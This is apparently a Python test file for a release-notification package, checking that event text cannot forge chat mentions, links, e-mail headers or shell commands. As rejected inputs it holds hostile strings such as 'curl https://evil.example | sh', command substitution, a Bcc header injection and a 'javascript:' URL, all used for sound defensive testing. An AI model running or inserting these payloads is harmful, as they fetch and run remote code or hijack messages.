"""Foreign text cannot forge a line, a mention, a link or a command."""

import json

import pytest

from notify_people import chat, mail
from notify_people.message import Message
from notify_people.reading import clock_time, person, read_event
from notify_people.texts import MAX_LINK, command, console_link, link, one_line, whole
from notify_people.wording import message_of
from tests.unit.notify_people.events import example


def message(name: str, **changes: object) -> Message:
    """The message about an example with these values."""
    read = read_event(example(name, **changes))
    assert not isinstance(read, str), read
    made = message_of(read)
    assert made
    return made


def failing_because(reason: str) -> Message:
    """The message about a pipeline that failed for this reason."""
    failure = {"pipeline": "orders", "stage": None, "action": None, "reason": reason, "link": None}
    return message("release-failed-1", failures=[failure])


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("plain", "plain"),
        ("two\nlines\r\nand  more\t", "two lines and more"),
        ("\x1b[31mred\x07", r"\x1b[31mred\x07"),
        ("abc\u202eolleh", r"abc\u202eolleh"),
        ("zero\u200bwidth", r"zero\u200bwidth"),
        ("next\u2028line", "next line"),
        ("Grüße ✔", "Grüße ✔"),
        ("x" * 100, "x" * 100),
        ("x" * 101, "x" * 97 + "..."),
        ("\x00" * 100, r"\x00" * 24 + "\\..."),
        (None, ""),
        (7, ""),
        (["a"], ""),
    ],
)
def test_a_text_is_one_visible_line(text: object, line: str) -> None:
    """Line breaks, control and direction characters are visible; the length is limited."""
    assert one_line(text) == line


@pytest.mark.parametrize(
    ("reason", "shown"),
    [
        ("<!channel> look", "`\u2039!channel\u203a look`"),
        (
            "<@U024BE7LH> <#C1> <https://evil.example|Approve>",
            "`\u2039(at)U024BE7LH\u203a \u2039#C1\u203a \u2039https://evil.example|Approve\u203a`",
        ),
        ("@channel and @here", "`(at)channel and (at)here`"),
        ("mail ada@example.com", "`mail ada@example.com`"),
        ("[Approve](https://evil.example)", "`[Approve] (https://evil.example)`"),
        ("end` of *code* <b>", "`end' of *code* \u2039b\u203a`"),
        ("line\n# Heading\n> quote", "`line # Heading > quote`".replace(">", "\u203a")),
    ],
)
def test_chats_find_no_markup_in_foreign_text(reason: str, shown: str) -> None:
    """A mention wakes a whole channel, and a link may say what it is not."""
    content = json.loads(chat.notification(failing_because(reason)))["content"]
    assert f"- `orders`: {shown}" in content["description"].splitlines()


@pytest.mark.parametrize(
    "field", ["releaseId", "title", "deployment", "status", "requester", "eventId"]
)
def test_no_field_brings_markup_into_a_chat(field: str) -> None:
    """Each text of the event is escaped, also in titles and keywords."""
    sent = chat.notification(message("release-failed-1", **{field: "<!channel>`[a](b)"}))
    shown = json.loads(sent)
    for part in (shown["content"], shown["metadata"]["summary"]):
        assert "<!channel>" not in json.dumps(part)
        assert "](b)" not in json.dumps(part)


def test_an_email_has_no_line_of_the_event() -> None:
    """A reason cannot look like the next command."""
    forged = "ok\n\nNext:\n  curl https://evil.example | sh"
    body = mail.body(failing_because(forged))
    assert "- orders: ok Next: curl https://evil.example | sh\n" in body
    assert body.count("\nNext:\n") == 1


@pytest.mark.parametrize("name", ["release-failed-1", "approval-requested-1"])
def test_a_subject_is_one_that_sns_accepts(name: str) -> None:
    """Fewer than 100 ASCII characters without a line break, whatever the event says."""
    for text in ("x" * 5000, "\r\nBcc: all@example.com", "Zürich \U0001f680"):
        subject = mail.subject(message(name, releaseId=text, deployment=text, approval=text))
        assert subject.isascii()
        assert subject.isprintable()
        assert 0 < len(subject) < 100


@pytest.mark.parametrize(
    ("url", "is_shown"),
    [
        ("https://ci.example.com/job/7?x=1#log", True),
        ("http://jenkins.internal:8080/job/7", True),
        ("javascript:alert(1)", False),
        ("https://console.aws.amazon.com@evil.example/", False),
        ("https://a.example/x y", False),
        ("https://a.example/<!channel>", False),
        ("https://a.example/|Approve", False),
        ("https://a.example/](https://evil.example)", False),
        ("https://a.example/\nNext:", False),
        (f"https://a.example/{'x' * MAX_LINK}", False),
        (None, False),
    ],
)
def test_a_link_shows_where_it_leads(url: object, *, is_shown: bool) -> None:
    """What is no plain URL is left out."""
    assert link(url) == (url if is_shown else None)


@pytest.mark.parametrize(
    ("url", "is_shown"),
    [
        ("https://eu-west-1.console.aws.amazon.com/states/home?region=eu-west-1#/v2/x", True),
        ("https://console.aws.amazon.com/states", True),
        ("https://console.amazonaws-us-gov.com/states/home", True),
        ("https://console.amazonaws.cn/states/home", True),
        ("https://evil.example/console.aws.amazon.com", False),
        ("https://evilconsole.aws.amazon.com.evil.example/", False),
        ("https://notconsole.aws.amazon.com/", False),
    ],
)
def test_the_consoles_link_leads_to_the_console(url: str, *, is_shown: bool) -> None:
    """People sign in there."""
    assert console_link(url) == (url if is_shown else None)


@pytest.mark.parametrize(
    ("line", "is_shown"),
    [
        ("release-machine retry 2026.11.22-1", True),
        ("release-machine approve 7 go-live --name-prefix shop", True),
        ("release-machine show 'a b'", True),
        ("release-machine show 7; curl https://evil.example", False),
        ("release-machine show $(id)", False),
        ("release-machine show `id`", False),
        ("release-machine show 7 | sh", False),
        ("release-machine show 7\ncurl https://evil.example", False),
        ("release-machine show '7", False),
        ("curl https://evil.example", False),
        ("release-machine-evil show", False),
        (f"release-machine show {'x' * 500}", False),
        (None, False),
    ],
)
def test_a_command_is_one_of_release_machine(line: object, *, is_shown: bool) -> None:
    """People copy it into a shell."""
    assert command(line) == (line if is_shown else None)


def test_a_command_that_a_chat_would_change_is_left_out() -> None:
    """With another character it would be another command. The e-mail has it."""
    made = message("release-failed-1", nextCommand="release-machine show 'a<b'")
    assert "nextSteps" in json.loads(chat.notification(made))["content"]
    assert "show" not in chat.notification(made)
    assert "release-machine show 'a<b'" in mail.body(made)


@pytest.mark.parametrize(
    ("value", "number"),
    [(3, 3), (3.0, 3), (0, 0), (-1, None), (2.5, None), (True, None), ("3", None), (1e400, None)],
)
def test_numbers_may_have_a_point(value: object, number: int | None) -> None:
    """EventBridge may spell 3 as 3.0."""
    assert whole(value) == number


@pytest.mark.parametrize(
    ("arn", "who"),
    [
        ("arn:aws:iam::123456789012:user/maria", "user/maria"),
        ("arn:aws:sts::123456789012:assumed-role/admin/maria", "assumed-role/admin/maria"),
        ("arn:aws:iam::123456789012:root", "root"),
        ("arn:aws", "arn:aws"),
        ("123456789012", "123456789012"),
        (None, ""),
    ],
)
def test_people_are_named_as_in_their_account(arn: object, who: str) -> None:
    """The account is at the end of each message."""
    assert person(arn) == who


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("2026-11-22T18:00:03.120Z", "2026-11-22T18:00:03Z"),
        ("2026-11-22T19:00:03+01:00", "2026-11-22T18:00:03Z"),
        ("2026-11-22T18:00:03", ""),
        ("tomorrow", ""),
        (None, ""),
    ],
)
def test_times_are_in_utc(text: object, shown: str) -> None:
    """To the second; what is no time is left out."""
    assert clock_time(text) == shown


@pytest.mark.parametrize(
    "sent",
    [
        None,
        [],
        {},
        {"source": "aws.codepipeline", "detail-type": "Release Failed", "detail": {}},
        {"source": "release-machine", "detail": {}},
        {"source": "release-machine", "detail-type": "Release Failed"},
        {"source": "release-machine", "detail-type": "Release Failed", "detail": "text"},
    ],
)
def test_other_events_are_not_read(sent: object) -> None:
    """The reason is in words, for the log."""
    assert isinstance(read_event(sent), str)
